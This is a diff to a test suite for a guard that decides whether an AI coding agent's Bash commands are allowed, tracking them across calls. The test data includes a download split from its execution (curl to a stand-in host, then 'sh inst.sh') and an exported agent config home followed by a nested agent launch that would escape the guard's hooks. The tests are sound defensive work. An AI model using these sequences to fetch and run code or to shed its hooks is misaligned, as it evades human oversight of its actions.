@@ -27,6 +27,18 @@ def _ok(got: str, want: "str | tuple[str, ...]") -> bool:
     return got in want if isinstance(want, tuple) else got == want
 
 
+def _in_turn(judge, tmp_path, session: str, *cmds: str) -> list[str]:
+    """Each Bash call decided, then remembered as the daemon does; the decisions in turn."""
+    got = []
+    for cmd in cmds:
+        ctx = Context(host="claude-code", session=session, cwd=str(tmp_path), home=str(tmp_path.parent), tool="Bash")
+        action = Action(ActionKind.EXEC, ctx, command=cmd)
+        v = judge.decide(action)
+        judge.crosscall.memory.remember(action, v)
+        got.append(v.decision.value)
+    return got
+
+
 def _write(judge, path: str, content: str) -> str:
     ctx = Context(host="claude-code", session="t", cwd="/home/dev/project", home="/home/dev", tool="Write")
     return judge.decide(Action(ActionKind.FILE_WRITE, ctx, path=path, content=content)).decision.value
@@ -252,14 +264,7 @@ def test_a_nested_agent_where_adrs_hooks_are_not_loaded(judge_command, cmd, want
     ("export CODEX_HOME=/tmp/elsewhere", "codex exec 'fix the tests'"),
 ])
 def test_an_agent_config_home_exported_in_an_earlier_call(memory_judge, tmp_path, first, second):
-    got = []
-    for cmd in (first, second):
-        ctx = Context(host="claude-code", session=f"agent-home-{first}", cwd=str(tmp_path), home=str(tmp_path.parent),
-                      tool="Bash")
-        action = Action(ActionKind.EXEC, ctx, command=cmd)
-        v = memory_judge.decide(action)
-        memory_judge.crosscall.memory.remember(action, v)
-        got.append(v.decision.value)
+    got = _in_turn(memory_judge, tmp_path, f"agent-home-{first}", first, second)
     assert got == ["allow", "deny"], (first, second, got)
 
 
@@ -306,12 +311,5 @@ def test_a_written_powershell_profile_is_read_as_powershell(offline_judge):
     ("curl -sSLoinst.sh https://dl.example.org/i", "sh inst.sh"),
 ])
 def test_every_downloader_spelling_is_remembered(memory_judge, tmp_path, first, second):
-    got = []
-    for cmd in (first, second):
-        ctx = Context(host="claude-code", session=f"dl-{first}", cwd=str(tmp_path), home=str(tmp_path.parent),
-                      tool="Bash")
-        action = Action(ActionKind.EXEC, ctx, command=cmd)
-        v = memory_judge.decide(action)
-        memory_judge.crosscall.memory.remember(action, v)
-        got.append((v.decision.value, v.rule_ids))
-    assert got[1][0] == "deny", (first, second, got)
+    got = _in_turn(memory_judge, tmp_path, f"dl-{first}", first, second)
+    assert got[1] == "deny", (first, second, got)
